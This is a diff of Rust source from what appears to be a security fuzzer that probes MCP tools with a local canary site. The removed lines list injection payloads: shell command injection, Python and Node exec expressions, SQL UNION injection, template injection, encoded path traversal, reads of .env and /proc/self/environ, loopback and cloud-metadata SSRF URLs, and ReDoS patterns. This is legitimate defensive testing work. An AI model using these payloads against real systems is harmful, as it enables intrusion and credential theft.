@@ -1,13 +1,20 @@
 //! Plans an attack on one tool: the parameters it goes through, the arguments it sends, and the proofs
-//! that it worked.
+//! that it worked. The attempts are in the files of its folder, by subject.
 
-use std::path::{Path, PathBuf};
+mod addresses;
+mod files;
+mod injection;
+mod overload;
+mod paths;
+
+use std::path::PathBuf;
 
 use karat_mcp::Definition;
-use serde_json::{Map, Value, json};
+use serde_json::{Map, Value};
 
+pub(super) use self::paths::up;
 use super::attacks::Technique;
-use super::canary_site::{CanarySite, RootPlants};
+use super::canary_site::CanarySite;
 use super::languages::{self, Language};
 use super::parameters::{self, Parameter};
 use crate::fuzz::generate::plainest;
@@ -72,14 +79,6 @@ pub(super) enum Plan {
     Not(&'static str),
 }
 
-/// The length of texts that are too long.
-const HUGE: usize = 4 << 20;
-/// The depth of arguments that are too deep: JSON readers still read them.
-const DEEP: usize = 100;
-/// Maxima up to this are harmless.
-const HARMLESS: i64 = 1_000;
-/// The numbers of columns that a second query is tried with.
-const COLUMNS: usize = 10;
 /// The number of parameters of one tool that an attack goes through only because of their type.
 const UNNAMED: usize = 8;
 
@@ -245,17 +244,8 @@ impl Planner<'_> {
             Technique::Metadata => self.metadata(parameter),
             Technique::Redirect => self.redirects(parameter),
             Technique::Oversized => self.numbers(parameter),
-            Technique::HugeInput => {
-                let text = "a".repeat(HUGE);
-                vec![self.sent(parameter, "a text of 4 MiB", text, vec![Proof::Ended])]
-            }
-            Technique::DeepInput => {
-                let mut value = json!([]);
-                for _ in 1..DEEP {
-                    value = json!([value]);
-                }
-                vec![self.with(parameter, "100 nested lists", value, vec![Proof::Ended])]
-            }
+            Technique::HugeInput => self.huge_strings(parameter),
+            Technique::DeepInput => self.deep_lists(parameter),
             Technique::Pattern => self.patterns(parameter),
             Technique::EnvPlain | Technique::Flood | Technique::Rebinding => Vec::new(),
         }
@@ -297,336 +287,12 @@ impl Planner<'_> {
         let (a, b) = self.site.factors;
         format!("{a}*{b}")
     }
-
-    fn commands(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let forms = [
-            ("a command after a semicolon", "karat; COMMAND"),
-            ("a command after an and", "karat && COMMAND"),
-            ("a command after a pipe", "karat | COMMAND"),
-            ("a command substitution", "$(COMMAND)"),
-            ("a command in backticks", "`COMMAND`"),
-            ("a command on the next line", "karat\nCOMMAND"),
-            ("a command after a single quote", "karat'; COMMAND; echo '"),
-            ("a command after a double quote", "karat\"; COMMAND; echo \""),
-            ("a Python expression", "__import__('os').system('COMMAND')"),
-            ("a JavaScript expression", "require('child_process').execSync('COMMAND')"),
-        ];
-        let attempt = |(about, form): &(&str, &str)| {
-            let mark = self.site.mark(self.site.number());
-            let product = self.product();
-            let command = format!("echo $(({product})) > {} ; echo $(({product}))", mark.display());
-            let proofs = vec![Proof::Mark(mark), Proof::Product];
-            self.sent(parameter, about, form.replace("COMMAND", &command), proofs)
-        };
-        forms.iter().map(attempt).collect()
-    }
-
-    fn arguments(&self, parameter: &Parameter) -> Vec<Attempt> {
-        ["--output=MARK", "-oMARK", "--log-file=MARK", "--file=MARK"]
-            .iter()
-            .map(|form| {
-                let mark = self.site.mark(self.site.number());
-                let text = form.replace("MARK", &mark.display().to_string());
-                self.sent(parameter, "an option that writes a file", text, vec![Proof::Mark(mark)])
-            })
-            .collect()
-    }
-
-    fn queries(&self, parameter: &Parameter) -> Vec<Attempt> {
-        // The simplest first: a quoted text in a query for any number of columns.
-        let starts = [("karat'", COLUMNS), ("0", 3), ("karat\"", 2), ("karat')", 2)];
-        let forms = starts
-            .iter()
-            .flat_map(|(start, most)| (1..=*most).map(move |columns| (*start, columns)));
-        let attempt = |(start, columns): (&str, usize)| {
-            let selected = vec![self.product(); columns].join(",");
-            let text = format!("{start} UNION SELECT {selected} -- ");
-            self.sent(parameter, "a second query", text, vec![Proof::Product])
-        };
-        forms.map(attempt).collect()
-    }
-
-    fn templates(&self, parameter: &Parameter) -> Vec<Attempt> {
-        ["{{P}}", "${P}", "<%= P %>", "#{P}", "{P}", "@(P)"]
-            .iter()
-            .map(|form| {
-                let text = form.replace('P', &self.product());
-                self.sent(parameter, "a template", text, vec![Proof::Product])
-            })
-            .collect()
-    }
-
-    fn relays(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let proof =
-            || vec![Proof::Token("the text with instructions", self.site.relay_token.clone())];
-        let mut found = Vec::new();
-        if parameter.is_url() {
-            let url = format!("http://127.0.0.1:{}/orders", self.site.listener.port());
-            found.push(self.sent(parameter, "a page with instructions", url, proof()));
-        }
-        if let Some(planted) = self.site.in_root().filter(|_| parameter.is_path()) {
-            let file = planted.orders.display().to_string();
-            found.push(self.sent(parameter, "a file with instructions", file, proof()));
-        }
-        found
-    }
-
-    fn secret_files(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let dotenv = self.site.dotenv().display().to_string();
-        let proofs = || {
-            let token = self.site.dotenv_token.clone();
-            vec![Proof::Token("the file with secrets", token), Proof::Changed]
-        };
-        let above = format!("{}{dotenv}", up());
-        let mut forms = vec![dotenv.clone(), above.clone(), dotenv.replace('/', "%2f")];
-        forms.extend(disguised(&above).map(|(_, text)| text));
-        with_file_urls(&mut forms, parameter, &dotenv);
-        let mut found: Vec<Attempt> = forms
-            .into_iter()
-            .map(|text| self.sent(parameter, "a file with secrets", text, proofs()))
-            .collect();
-        if self.access.has_secret {
-            let environ = "/proc/self/environ";
-            let mut forms = vec![environ.to_owned(), format!("{}{environ}", up())];
-            with_file_urls(&mut forms, parameter, environ);
-            let about = "its own environment file";
-            let attempt = |text| self.sent(parameter, about, text, vec![self.env_token()]);
-            found.extend(forms.into_iter().map(attempt));
-        }
-        found
-    }
-
-    /// Paths outside the root: to a file, to the same without its extension, and to one that does not exist.
-    pub(super) fn outside(&self) -> [String; 3] {
-        let path = self.site.outside_file();
-        let new = self.site.folder().join(format!("new-{}.txt", self.site.number()));
-        [path.clone(), path.with_extension(""), new].map(|path| path.display().to_string())
-    }
-
-    fn traversals(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let [outside, bare, new] = self.outside();
-        let plain = format!("{}{outside}", up());
-        let mut forms = vec![
-            ("parent folders", plain.clone()),
-            ("parent folders, without the extension", format!("{}{bare}", up())),
-            ("parent folders of a folder", format!("karat/../{plain}")),
-            ("parent folders with backslashes", plain.replace('/', "\\")),
-        ];
-        forms.extend(disguised(&plain));
-        forms.push(("parent folders and a zero byte", format!("{plain}\0.txt")));
-        for root in self.site.roots() {
-            forms.push(("parent folders of the root", format!("{}/{plain}", root.display())));
-        }
-        forms.push(("parent folders to a new file", format!("{}{new}", up())));
-        self.paths(parameter, forms)
-    }
-
-    fn absolutes(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let [outside, bare, new] = self.outside();
-        let mut forms = vec![
-            ("an absolute path", outside.clone()),
-            ("an absolute path without the extension", bare),
-            ("an absolute path with extra slashes", format!("//{outside}")),
-            ("an absolute path, encoded", outside.replace('/', "%2f")),
-        ];
-        let [url, on_host] = file_urls(&outside).map(|text| ("a file URL", text));
-        // The first and the last form are compared, so they differ in nothing but the file.
-        if parameter.is_url() {
-            forms.splice(0..0, [url, on_host]);
-            forms.push(("an absolute path to a new file", new.clone()));
-            forms.push(("a file URL to a new file", format!("file://{new}")));
-        } else {
-            forms.extend([url, ("an absolute path to a new file", new)]);
-        }
-        self.paths(parameter, forms)
-    }
-
-    fn paths(&self, parameter: &Parameter, forms: Vec<(&str, String)>) -> Vec<Attempt> {
-        let attempt = |(about, text)| self.sent(parameter, about, text, self.escaped());
-        forms.into_iter().map(attempt).collect()
-    }
-
-    fn planted(
-        &self,
-        parameter: &Parameter,
-        about: &str,
-        which: impl Fn(&RootPlants) -> &PathBuf,
-    ) -> Vec<Attempt> {
-        let Some(planted) = self.site.in_root() else { return Vec::new() };
-        let path = which(planted);
-        if !path.exists() {
-            return Vec::new();
-        }
-        let mut forms = vec![(about, path.display().to_string())];
-        let below = self.site.roots().first().and_then(|root| relative(root, path));
-        let whole = path.display().to_string();
-        forms.push((about, whole.replace('/', "%2f")));
-        if let Some(below) = below {
-            let is_above = below.starts_with("../");
-            let disguised = disguised(&below).map(|(_, text)| (about, text));
-            forms.push((about, below));
-            forms.extend(disguised.into_iter().filter(|_| is_above));
-        }
-        self.paths(parameter, forms)
-    }
-
-    /// An address of the listener with a path that no other attempt has.
-    pub(super) fn address(&self, host: &str, path: &str) -> (String, String) {
-        let path = format!("{path}{}", self.site.number());
-        (format!("http://{host}:{}{path}", self.site.listener.port()), path)
-    }
-
-    /// The spellings of this machine's own address: a filter may know some of them only.
-    fn hosts(&self) -> Vec<(&'static str, &'static str)> {
-        let mut hosts = vec![
-            ("loopback", "127.0.0.1"),
-            ("loopback by name", "localhost"),
-            ("loopback, shortened", "127.1"),
-            ("loopback as one number", "2130706433"),
-            ("loopback in hexadecimal", "0x7f000001"),
-            ("loopback as IPv6", "[::ffff:127.0.0.1]"),
-            ("loopback after a user name", "user@127.0.0.1"),
-            ("all addresses of this machine", "0.0.0.0"),
-        ];
-        if self.site.listener.has_v6() {
-            hosts.push(("IPv6 loopback", "[::1]"));
-        }
-        hosts
-    }
-
-    fn loopbacks(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let hosts = self.hosts();
-        let mut found = Vec::new();
-        for (about, host) in hosts {
-            let (url, path) = self.address(host, "/loopback/");
-            // Some tools take only the host from an address.
-            let proofs = vec![Proof::Called(path), Proof::Visited];
-            found.push(self.sent(parameter, about, url, proofs));
-        }
-        found.extend(self.without_scheme(parameter, "/loopback/", &|path| path));
-        if parameter.is_host() {
-            let host = format!("127.0.0.1:{}", self.site.listener.port());
-            found.push(self.sent(parameter, "loopback as a host", host, vec![Proof::Visited]));
-        }
-        found
-    }
-
-    /// The same without a scheme, for tools that add it themselves.
-    fn without_scheme(
-        &self,
-        parameter: &Parameter,
-        path: &str,
-        called: &dyn Fn(String) -> String,
-    ) -> Option<Attempt> {
-        if !parameter.is_host() {
-            return None;
-        }
-        let (url, path) = self.address("127.0.0.1", path);
-        let text = url.trim_start_matches("http://").to_owned();
-        let proofs = vec![Proof::Called(called(path))];
-        Some(self.sent(parameter, "loopback with a path", text, proofs))
-    }
-
-    fn metadata(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let paths = [
-            "/latest/meta-data/iam/security-credentials/",
-            "/computeMetadata/v1/instance/service-accounts/default/",
-        ];
-        let attempt = |host: &str, path: &str| {
-            let (url, path) = self.address(host, path);
-            self.sent(parameter, "a stand-in for metadata", url, vec![Proof::Called(path)])
-        };
-        let hosts = self.hosts();
-        let mut found: Vec<Attempt> = paths.iter().map(|path| attempt("127.0.0.1", path)).collect();
-        found.extend(hosts.iter().skip(1).map(|(_, host)| attempt(host, paths[0])));
-        found.extend(self.without_scheme(parameter, paths[0], &|path| path));
-        found
-    }
-
-    fn redirects(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let landed = |path: String| path.replace("/moved/", "/landed/");
-        let attempt = |(_, host): &(&str, &str)| {
-            let (url, path) = self.address(host, "/moved/");
-            self.sent(parameter, "a redirect", url, vec![Proof::Called(landed(path))])
-        };
-        let mut found: Vec<Attempt> = self.hosts().iter().map(attempt).collect();
-        found.extend(self.without_scheme(parameter, "/moved/", &landed));
-        found
-    }
-
-    fn numbers(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let sizes = match parameter.maximum() {
-            Some(most) if most <= HARMLESS => return Vec::new(),
-            Some(most) => vec![most],
-            // If nothing suggests a count, one number is enough.
-            None if !parameter.is_count() => vec![2_000_000_000],
-            None => vec![10_000_000, 2_000_000_000],
-        };
-        let attempt = |size: i64| {
-            self.with(parameter, "a very large number", json!(size), vec![Proof::Overrun])
-        };
-        sizes.into_iter().map(attempt).collect()
-    }
-
-    fn patterns(&self, parameter: &Parameter) -> Vec<Attempt> {
-        let mut attempt = self.sent(
-            parameter,
-            "a pattern that backtracks",
-            "^(a+)+$".to_owned(),
-            vec![Proof::Ended],
-        );
-        let against = format!("{}!", "a".repeat(40));
-        for other in parameters::of(self.tool) {
-            if other.outer != parameter.outer && other.is_free_text() && !other.is_path() {
-                other.put(&mut attempt.arguments, json!(against));
-            }
-        }
-        vec![attempt]
-    }
 }
 
 /// The reason for which an attack does not apply to a tool that is made for it.
 pub(super) const PURPOSE: &str = "this is the purpose of the tool";
 /// The reason for which no secret can get out of the environment.
 const ENVIRONMENT: &str = "no secret can be planted in the server's environment";
-
-/// A path with parent folders as a filter for `../` does not see it, or makes it.
-fn disguised(path: &str) -> [(&'static str, String); 3] {
-    [
-        ("parent folders, encoded", path.replace("../", "%2e%2e%2f")),
-        ("parent folders, encoded twice", path.replace("../", "%252e%252e%252f")),
-        ("parent folders, hidden from a filter", path.replace("../", "....//")),
-    ]
-}
-
-/// The forms of a file URL. Python and others accept the second one too, where a filter looks for `file:///`.
-fn file_urls(path: &str) -> [String; 2] {
-    [format!("file://{path}"), format!("file://localhost{path}")]
-}
-
-/// Adds file URLs to the forms of a path: first where an address is expected.
-fn with_file_urls(forms: &mut Vec<String>, parameter: &Parameter, path: &str) {
-    let [url, on_host] = file_urls(path);
-    if parameter.is_url() {
-        forms.splice(0..0, [url, on_host]);
-    } else {
-        forms.push(url);
-    }
-}
-
-/// A path from any folder to the root of the file system.
-pub(super) fn up() -> String {
-    "../".repeat(12).trim_end_matches('/').to_owned()
-}
-
-/// The path of a file in the root or next to it, relative to the root.
-fn relative(root: &Path, path: &Path) -> Option<String> {
-    if let Ok(inside) = path.strip_prefix(root) {
-        return Some(inside.display().to_string());
-    }
-    let beside = path.strip_prefix(root.parent()?).ok()?;
-    Some(format!("../{}", beside.display()))
-}
 
 fn fit(technique: Technique, parameter: &Parameter) -> Option<Fit> {
     let either = |likely: bool, possible: bool| match (likely, possible) {
@@ -672,6 +338,8 @@ fn first_attempts(technique: Technique) -> usize {
 
 #[cfg(test)]
 mod tests {
+    use serde_json::json;
+
     use super::*;
     use crate::attack::attacks::ATTACKS;
 
@@ -807,6 +475,7 @@ mod tests {
         let numbers = through(raw, "oversized-answer").await;
         assert_eq!(numbers, [("seconds".to_owned(), 1), ("rows".to_owned(), 2)]);
     }
+
     #[tokio::test]
     async fn parameters_of_a_command_tool_are_never_held() {
         let site = CanarySite::prepare(&[], false).await.unwrap();
@@ -827,6 +496,7 @@ mod tests {
         assert_eq!(doubts("command", "huge-input"), None);
         assert_eq!(doubts("title", "absolute-path"), None);
     }
+
     #[tokio::test]
     async fn a_program_is_sent_with_its_language() {
         let schema = json!({"type": "object", "required": ["code", "languageId"], "properties": {
